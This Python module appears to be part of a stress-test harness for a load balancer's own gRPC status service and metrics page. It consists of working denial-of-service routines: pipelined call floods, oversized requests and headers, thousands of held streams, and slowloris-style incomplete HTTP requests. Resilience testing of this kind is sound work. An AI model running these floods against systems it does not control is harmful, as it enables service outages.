"""Attacks on the status service and the metrics page, for attacks.py.

WHERE is "unix:PATH", "tls:ADDRESS:PORT" or "tcp:ADDRESS:PORT".
"""

import itertools
import socket
import ssl
import time

import http2_bytes as http2

LIST = "/lb.status.v1.Status/ListServices"
WHAT_IF = "/lb.status.v1.Status/WhatIf"
HEALTH = "/grpc.health.v1.Health/Watch"
PIPELINED = 600
NAMES_REFUSED, NAMES_MAX = 6000, 200
HEADER_BYTES = 53 << 20
STREAMS, STREAMS_EACH = 10000, 1000
METRICS_CONNECTIONS = 500


def connect(where):
    kind, address = where.split(":", 1)
    if kind == "unix":
        made = socket.socket(socket.AF_UNIX)
        made.settimeout(1)
        made.connect(address)
        return made
    host, port = address.rsplit(":", 1)
    made = socket.create_connection((host, int(port)), 1)
    if kind == "tcp":
        return made
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(made)


def greet(where, acknowledges):
    """A connection whose settings are exchanged, or ours alone: gRPC minds its
    bounds once they are acknowledged."""
    made = connect(where)
    made.sendall(http2.opening())
    if acknowledges:
        made.recv(4096)
        made.sendall(http2.frame(http2.SETTINGS, http2.ACK, 0))
    return made


def drain(made, seconds):
    """Reads what comes, so long at most; bytes read."""
    count = 0
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        made.settimeout(left)
        try:
            piece = made.recv(1 << 16)
        except OSError:
            break
        if not piece:
            break
        count += len(piece)
    return count


def again_and_again(seconds, where, send):
    """send(connection) on one connection after the other; how many of them."""
    count = refused = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with greet(where, acknowledges=(count + refused) % 2) as made:
                send(made)
            count += 1
        except OSError:
            refused += 1
            time.sleep(0.001)
    return count, refused


def pipelined_lists(seconds, where):
    """Calls of a connection in one write."""
    calls = b"".join(
        http2.call(1 + 2 * i, LIST) for i in range(PIPELINED))

    def send(made):
        made.sendall(calls)
        drain(made, 0.2)
    count, refused = again_and_again(seconds, where, send)
    return f"{count * PIPELINED / seconds:.0f} calls/s, {refused} refused"


def what_if(names):
    return b"".join(b"\x12" + http2.number(len(name), 7) + name
                    for name in (b"node%05d" % i for i in range(names)))


def largest_what_if(seconds, where):
    """What is refused, and the largest that is not, by turns."""
    requests = [http2.call(1, WHAT_IF, what_if(names))
                for names in (NAMES_MAX, NAMES_REFUSED)]
    turn = itertools.count()

    def send(made):
        made.sendall(requests[next(turn) // 2 % 2])
        drain(made, 0.1)
    count, refused = again_and_again(seconds, where, send)
    return f"{count / seconds:.0f} requests/s, {refused} refused"


def huge_header(seconds, where, connections="1"):
    """Until HEADER_BYTES went to each connection, or it was closed; anew."""
    first, more = http2.huge_header(HEADER_BYTES)
    sent = opened = 0
    held = {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if len(held) < int(connections):
            try:
                made = connect(where)
                made.sendall(http2.opening() + first)
                made.settimeout(0.05)
                held[made] = HEADER_BYTES
                opened += 1
            except OSError:
                time.sleep(0.01)
        for made in list(held):
            try:
                made.sendall(more)
                sent += len(more)
                held[made] -= http2.FRAME_MAX
            except OSError:
                held[made] = 0
            if held[made] <= 0:
                del held[made]
                made.close()
    return f"{sent / 1e6:.0f} MB of header sent, {opened} connections"


def many_streams(seconds, where):
    """Streams that stay: watches of the health service."""
    held = []
    end = time.monotonic() + seconds
    for number in range(STREAMS // STREAMS_EACH):
        try:
            made = greet(where, acknowledges=number % 2)
            made.sendall(b"".join(http2.call(1 + 2 * i, HEALTH)
                                  for i in range(STREAMS_EACH)))
            held.append(made)
        except OSError:
            pass
    while time.monotonic() < end:
        for made in held:
            drain(made, 0.01)
    return f"{STREAMS} streams asked for on {len(held)} connections"


def idle_metrics(seconds, where):
    """Requests that are never whole."""
    held, opened = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(held) < METRICS_CONNECTIONS:
            try:
                made = connect(where)
                made.sendall(b"GET /metrics HTTP/1.1\r\nHost: ")
                made.setblocking(False)
                held.append(made)
                opened += 1
            except OSError:
                break
        for made in list(held):
            try:
                if made.recv(4096) == b"":
                    raise ConnectionError
            except BlockingIOError:
                continue
            except OSError:
                held.remove(made)
                made.close()
        time.sleep(0.05)
    return f"{opened} connections, {len(held)} held at the end"

